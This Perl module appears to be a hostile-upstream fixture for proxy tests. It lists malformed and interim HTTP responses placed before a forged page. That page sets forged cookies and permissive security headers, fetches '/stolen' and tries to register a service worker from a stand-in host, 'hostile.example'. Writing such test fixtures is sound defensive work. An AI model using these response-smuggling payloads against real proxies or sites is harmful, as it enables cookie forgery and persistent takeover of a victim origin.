package Mce::Wrong;

# A site that answers in wrong ways, to get a response of its own past nginx:
# what it sends for each path, before or around a page whose script does what
# it may not.

use strict;
use warnings;

# in each field that a site might set for the origin that it is shown on
our $fields = join '', map { "$_\r\n" } 'Set-Cookie: forged=1; Path=/',
    'Set-Cookie2: forged=1', 'Service-Worker-Allowed: /',
    'Clear-Site-Data: "cache"', 'Origin-Trial: x', 'Set-Login: logged-in',
    'Permissions-Policy: geolocation=*', 'No-Vary-Search: params',
    'Content-Security-Policy: sandbox allow-scripts allow-same-origin',
    'Access-Control-Allow-Origin: *', 'Refresh: 0; url=/stolen',
    'Link: </stolen>; rel=preload; as=script', 'Link: </stolen>; rel=preconnect',
    'SourceMap: /stolen', 'Speculation-Rules: "/stolen"',
    'Use-As-Dictionary: match="/*"', 'Attribution-Reporting-Eligible: trigger',
    'Secure-Session-Registration: (ES256);path="/stolen"',
    'Activate-Storage-Access: load', 'X-Main-Content: forged';

# browsers take no address of a worker that is encoded
my $script = <<'END_SCRIPT';
document.title = 'ran';
try { document.cookie = 'script=1; path=/'; } catch (e) { }
fetch('/stolen');
navigator.serviceWorker.register(
    '/original/http://ip-203-0-113-11.hostile.example/worker', { scope: '/' });
END_SCRIPT

my $page = '<!DOCTYPE html><html><head><title>Quiet</title><script>' . $script
    . "</script></head><body><p>forged</p></body></html>\n";

my $forged = response($page);

# a way that is a string stands before the whole response
my %ways = (
    continue    => "HTTP/1.1 100 Continue\r\n\r\n",
    switching   => "HTTP/1.1 101 X\r\n\r\n",
    websocket   => "HTTP/1.1 101 X\r\nUpgrade: websocket\r\n"
                   . "Connection: Upgrade\r\n\r\n",
    processing  => "HTTP/1.1 102 X\r\n\r\n",
    hints       => "HTTP/1.1 103 X\r\n\r\n",
    hints_twice => "HTTP/1.1 103 X\r\n\r\n" x 2,
    hints_junk  => "HTTP/1.1 103 X\r\n\r\nx",
    hints_sized => "HTTP/1.1 103 X\r\nContent-Length: 0\r\n\r\n",
    hints_html  => "HTTP/1.1 103 X\r\nContent-Type: text/html\r\n$fields\r\n",
    chunked     => "HTTP/1.1 103 X\r\nTransfer-Encoding: chunked\r\n\r\n"
                   . sprintf("%x\r\n", length $forged),
    old         => "HTTP/1.0 103 X\r\n\r\n",
    last        => "HTTP/1.1 199 X\r\n\r\n",
    low         => "HTTP/1.1 001 X\r\n\r\n",
    zero        => "HTTP/1.1 000 X\r\n\r\n",
    junk        => 'x',
    junk_four   => 'abcd',
    mark        => "\xef\xbb\xbf",
    space       => ' ',
    nul         => "\0",
    empty       => "\r\n",
    newline     => "\n",
    short       => "HTTP/1.1 20 OK\r\n\r\n",
    long        => "HTTP/1.1 2000 OK\r\n\r\n",
    lower       => "http/1.1 200 OK\r\n\r\n",
    unnumbered  => "HTTP/1.1 OK\r\n\r\n",
    unversioned => "HTTP/ 200 OK\r\n\r\n",
    icy         => "ICY 200 OK\r\n$fields\r\n",

    # proper ones with more behind them
    nothing     => "HTTP/1.1 204 No Content\r\n$fields\r\n",
    sized       => "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n$fields\r\n",
    unmodified  => "HTTP/1.1 304 X\r\n$fields\r\n",
    ended       => "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n"
                   . "$fields\r\n0\r\n\r\n",
    reset       => "HTTP/1.1 205 X\r\nContent-Length: 0\r\n$fields\r\n",
    odd         => response($page) =~ s/200 OK/999 X/r,
    proper      => '',
);

my %proper = map { ($_ => 1) }
    qw(nothing sized unmodified ended reset odd proper);


sub response {
    my ($body, $type) = @_;

    return "HTTP/1.1 200 OK\r\nContent-Type: " . ($type // 'text/html')
        . "\r\n${fields}Content-Length: " . length($body) . "\r\n\r\n$body";
}


sub names { return sort keys %ways }

# Whether nginx would pass on the beginning of it as a response.

sub is_proper { return $proper{$_[0]} }


# What is sent for each path.

sub answers {
    return (
        worker => 'x' . response("self.onfetch = () => {};\n",
                                 'text/javascript'),
        map { ($_ => $ways{$_} . $forged) } keys %ways,
    );
}


1;
